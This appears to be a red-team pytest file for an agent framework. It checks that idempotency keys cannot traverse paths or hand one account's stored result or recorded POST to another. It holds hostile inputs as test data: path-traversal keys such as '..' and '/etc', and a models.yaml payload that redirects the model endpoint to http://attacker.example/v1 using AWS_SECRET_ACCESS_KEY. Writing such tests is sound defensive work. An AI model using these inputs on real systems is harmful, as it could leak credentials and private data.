"""Red team: an idempotency key is data, never a path and never another owner's task.

Each test plays the attacker who writes the TaskSpec (a process author, an upstream system,
another account on the machine) against the real loop with the scripted model, or against
the real `das tde run`. Engine-path attacks (two process instances, a forged tdeResult, the
template's retry loop): tests/engine/test_e2e_key_attacks.py.
"""

from __future__ import annotations

import json
import os
import pwd
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from das.agents.tde_loop import run_tde
from das.contracts import TaskSpec, parse_external
from das.errors import InvalidInput
from das.llm.testmodel import register_script

BAD_KEYS = ["..", ".", "a/b", "../x", "/etc", "a" * 201, "x\n", "", " a", "-a", "a b", "é", "a\\b", "~"]
HOME_ITEMS = ("models.yaml", "das.db", "credentials.json")


def _spec(key: str, schema: dict | None = None) -> dict:
    return {
        "task_type": "never_declared_anywhere",
        "prompt": "Write the file, then finish.",
        "idempotency_key": key,
        "output_schema": schema or {"type": "object"},
    }


def _writer(name: str, path: str = "models.yaml", content: str = "x: 1\n") -> str:
    return register_script(
        name,
        [
            {"tool_calls": [{"name": "write_file", "arguments": {"path": path, "content": content}}]},
            {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
        ],
    )


def _ops(tmp_path: Path) -> str:
    ops = tmp_path / "ops.yaml"
    ops.write_text(yaml.safe_dump({"allowed_tools": ["finish", "write_file", "read_file"]}))
    return str(ops)


def test_spec_key_dotdot_cannot_reach_das_home(tmp_path, das_home):
    """Tried (finding 1): `idempotency_key: ".."` so the workspace becomes $DAS_HOME, then
    write_file `models.yaml` there (declaring an attacker's server as local). The spec is
    refused before anything runs, and nothing appears in DAS_HOME."""
    model = _writer("dotdot-models")
    payload = (
        "m:\n  api_base: http://attacker.example/v1\n  local: true\n  api_key_env: AWS_SECRET_ACCESS_KEY\n"
    )
    with pytest.raises(InvalidInput, match="idempotency_key"):
        spec = parse_external(TaskSpec, json.dumps(_spec("..")), "taskSpec")
        run_tde(
            spec,
            model=register_script(
                "dotdot-payload",
                [
                    {
                        "tool_calls": [
                            {"name": "write_file", "arguments": {"path": "models.yaml", "content": payload}}
                        ]
                    },
                    {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
                ],
            ),
            policy_file=_ops(tmp_path),
        )
    assert not (das_home / "models.yaml").exists()
    # a spec built without validation (model_construct) is refused by the loop itself
    forged = TaskSpec.model_construct(
        **{
            **_spec(".."),
            "mode": "probabilistic",
            "inputs": {},
            "checks": [],
            "policy": {},
            "correlation_id": None,
            "artifacts_in": [],
            "capabilities": [],
            "priority": 50,
        }
    )
    with pytest.raises(InvalidInput, match="idempotency key"):
        run_tde(forged, model=model, policy_file=_ops(tmp_path))
    assert not (das_home / "models.yaml").exists()


@pytest.mark.parametrize("key", BAD_KEYS, ids=lambda k: repr(k)[:20])
def test_spec_key_that_is_not_a_plain_name_is_refused(key, tmp_path, das_home):
    """Tried: keys that are paths, dots, too long (the old code cut at 120 so two long keys
    met), control characters, spaces, non-ASCII. All are InvalidInput naming the field."""
    with pytest.raises(InvalidInput, match="idempotency_key"):
        spec = parse_external(TaskSpec, json.dumps(_spec(key)), "taskSpec")
        run_tde(spec, model=_writer(f"bad-key-{abs(hash(key))}"), policy_file=_ops(tmp_path))
    assert not any((das_home / item).exists() for item in ("models.yaml", "workspaces"))


def test_cli_refuses_a_path_key_with_exit_4(tmp_path, das_home):
    """Tried: the same keys through `das tde run` (exit 4: invalid spec), nothing written."""
    ops = _ops(tmp_path)
    scripts = das_home / "test_scripts"
    scripts.mkdir(parents=True, exist_ok=True)
    (scripts / "cli-writer.json").write_text(
        json.dumps(
            {
                "steps": [
                    {
                        "tool_calls": [
                            {"name": "write_file", "arguments": {"path": "models.yaml", "content": "x: 1\n"}}
                        ]
                    },
                    {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
                ]
            }
        )
    )
    for key in ("..", ".", "a/b", "a" * 201):
        out = subprocess.run(
            [
                sys.executable,
                "-m",
                "das",
                "tde",
                "run",
                "--spec",
                "-",
                "--model",
                "test/cli-writer",
                "--policy",
                ops,
                "--format",
                "json",
            ],
            input=json.dumps(_spec(key)),
            capture_output=True,
            text=True,
            timeout=120,
            env={**os.environ, "DAS_HOME": str(das_home)},
        )
        assert out.returncode == 4, (key, out.returncode, out.stderr[-500:])
        assert "idempotency_key" in out.stderr and "never a path" in out.stderr
    assert not (das_home / "models.yaml").exists()


def _workspace_of(das_home: Path, marker: str) -> Path:
    found = [p.parent for p in das_home.rglob("probe.txt") if p.read_text() == marker]
    assert len(found) == 1, found
    return found[0]


def test_valid_keys_get_their_own_workspace_inside_workspaces(tmp_path, das_home):
    """Tried: keys that the old sanitiser made equal (`a:b` and `a_b`; two keys equal in their
    first 120 characters) or that look like paths
    once joined (`A..b`, `x.`): each run's file lands in its own `workspaces/<sha256>`
    directory, which is never DAS_HOME and holds none of its items."""
    places = {}
    for key in ("a:b", "a_b", "A..b", "x.", "k" * 130 + "1", "k" * 130 + "2"):  # old: cut at 120, so one
        model = _writer(f"probe-{key[:20]}", "probe.txt", content=key)
        result = run_tde(
            parse_external(TaskSpec, json.dumps(_spec(key)), "taskSpec"),
            model=model,
            policy_file=_ops(tmp_path),
        )
        assert result.status == "succeeded", result.message
        ws = _workspace_of(das_home, key)
        assert (
            ws.parent == das_home / "workspaces" and len(ws.name) == 64 and ws.resolve() != das_home.resolve()
        )
        assert not any((ws / item).exists() for item in HOME_ITEMS)
        places[key] = ws
    assert len(set(places.values())) == len(places)  # a:b and a_b no longer share one


def _as_account(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """Run the CLI as another OS account: the principal is read from the effective uid (the
    only input it has; the OS account is what `das queue approve` acts as, too)."""
    monkeypatch.setattr(os, "geteuid", lambda: pwd.getpwnam(name).pw_uid)


def _tde_run(spec: dict, model: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
    from das.cli import main

    with pytest.raises(SystemExit) as done:
        main(["tde", "run", "--spec", str(_write(spec)), "--model", model, "--format", "json"])
    return int(done.value.code or 0), json.loads(capsys.readouterr().out)


def _write(spec: dict) -> Path:
    path = Path(os.environ["DAS_HOME"]).parent / f"spec-{abs(hash(json.dumps(spec)))}.json"
    path.write_text(json.dumps(spec))
    return path


def test_another_account_reusing_a_key_does_not_get_the_stored_result(monkeypatch, capsys, das_home):
    """Tried (finding 3): two OS accounts share one DAS_HOME store; the second runs a spec with
    the first one's idempotency key to get the stored result (PII) back. It gets its own run."""
    schema = {"type": "object", "properties": {"ssn": {"type": "string"}}, "required": ["ssn"]}
    victim = register_script(
        "victim-pii", [{"tool_calls": [{"name": "finish", "arguments": {"outputs": {"ssn": "078-05-1120"}}}]}]
    )
    code, first = _tde_run(_spec("case-4711", schema), victim, capsys)
    assert code == 0 and first["outputs"] == {"ssn": "078-05-1120"}
    thief = register_script(
        "thief", [{"tool_calls": [{"name": "finish", "arguments": {"outputs": {"ssn": "none"}}}]}]
    )
    with monkeypatch.context() as other:
        _as_account(other, "nobody")
        code, second = _tde_run(_spec("case-4711", schema), thief, capsys)
    assert code == 0 and second["outputs"] == {"ssn": "none"}, second
    assert "078-05-1120" not in json.dumps(second)
    # the victim, again: still its own stored result, without a model call
    code, again = _tde_run(_spec("case-4711", schema), "test/fail-permanent", capsys)
    assert again["outputs"] == {"ssn": "078-05-1120"}


def test_another_owner_cannot_replay_or_block_a_side_effect_by_key(tmp_path, das_home):
    """Tried: another owner reuses a key whose POST is recorded (to read its recorded response,
    or to be blocked by it). Each namespace has its own claims: the second owner's POST is its
    own, sent once, and the first owner's replay is still its own record."""
    from agent_helpers import Listener, http_step

    listener = Listener()
    try:
        ops = tmp_path / "post.yaml"
        ops.write_text(
            yaml.safe_dump(
                {
                    "allowed_endpoints": [listener.url],
                    "allowed_methods": ["POST"],
                    "allowed_tools": ["finish", "http_request"],
                }
            )
        )
        model = register_script(
            "post-by-key",
            [
                http_step(listener.url, "POST", {"pay": 1}),
                {"tool_calls": [{"name": "finish", "arguments": {"outputs": {}}}]},
            ],
        )
        spec = parse_external(TaskSpec, json.dumps({**_spec("pay-77"), "prompt": "Pay."}), "taskSpec")
        for owner in ("principal:alice", "principal:mallory", "principal:alice"):
            spec_fresh = spec.model_copy(update={"prompt": f"Pay ({owner})."})
            run_tde(spec_fresh, model=model, policy_file=str(ops), namespace=owner)
        # alice's second run replayed her stored result; mallory's POST was her own
        assert len([r for r in listener.requests if r[0] == "POST"]) == 2
        keys = {r[2].get("Idempotency-Key", "").split(":")[0] for r in listener.requests}
        assert len(keys) == 2 and all(len(k) == 64 for k in keys)
    finally:
        listener.close()
